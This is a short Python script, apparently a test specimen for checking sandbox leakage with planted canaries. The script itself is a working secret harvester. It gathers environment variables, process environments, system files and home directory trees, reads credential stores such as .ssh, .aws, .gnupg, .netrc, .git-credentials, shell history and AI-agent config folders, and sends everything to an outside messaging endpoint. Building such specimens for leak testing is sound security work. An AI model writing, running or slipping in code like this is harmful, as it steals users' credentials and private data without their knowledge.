"""Sends all that it can see of its surroundings. A test puts canaries outside and looks for them in what came."""

from __future__ import annotations

import os
import pwd
from pathlib import Path

import wire

FILES = [
    "/proc/1/environ",
    "/proc/self/environ",
    "/proc/1/cmdline",
    "/proc/self/mountinfo",
    "/proc/self/cgroup",
    "/etc/passwd",
    "/etc/hosts",
    "/etc/hostname",
    "/etc/machine-id",
    "/etc/resolv.conf",
]
SECRETS = [
    ".ssh",
    ".aws",
    ".config",
    ".claude",
    ".codex",
    ".gnupg",
    ".netrc",
    ".npmrc",
    ".git-credentials",
    ".bash_history",
]


def read(path: Path) -> str:
    try:
        return path.read_bytes()[:65536].decode("utf-8", "replace")
    except OSError as error:
        return f"({error.strerror})"


def link(path: Path) -> str:
    try:
        return f"{path} -> {path.readlink()}"
    except OSError as error:
        return f"{path}: ({error.strerror})"


def tree(folder: Path, depth: int = 3) -> list[str]:
    """Return the paths below a folder, with the content of the small files among them."""
    lines: list[str] = []
    try:
        entries = sorted(folder.iterdir())[:200]
    except OSError as error:
        return [f"{folder}: ({error.strerror})"]
    for entry in entries:
        lines.append(str(entry))
        if entry.is_symlink() or str(entry) == "/proc":
            continue
        if entry.is_dir() and depth:
            lines += tree(entry, depth - 1)
        elif entry.is_file() and entry.stat().st_size < 4096:
            lines.append(read(entry))
    return lines


def processes() -> list[str]:
    folders = [entry for entry in Path("/proc").iterdir() if entry.name.isdigit()]
    return [read(folder / "cmdline") + read(folder / "environ") for folder in sorted(folders)[:100]]


homes = sorted({str(Path.home()), pwd.getpwuid(os.getuid()).pw_dir, "/root"})
parts = [
    "specimen-environment-dump",
    *(f"{name}={value}" for name, value in sorted(os.environ.items())),
    *(f"{name}: {read(Path(name))}" for name in FILES),
    *(line for home in homes for line in tree(Path(home))),
    *(read(Path(home) / name) for home in homes for name in SECRETS),
    *tree(Path("/home"), 2),
    *tree(Path("/tmp"), 1),
    *tree(Path("/run"), 1),
    *processes(),
    *(link(entry) for entry in Path("/proc/self/fd").iterdir()),
    f"{os.getuid()} {os.getgid()} {os.getgroups()} {os.uname()} {Path.cwd()}",
]
body = wire.request_body("anthropic-messages", "Answer in short sentences.", "\n".join(parts))
wire.ask("anthropic-messages", body)
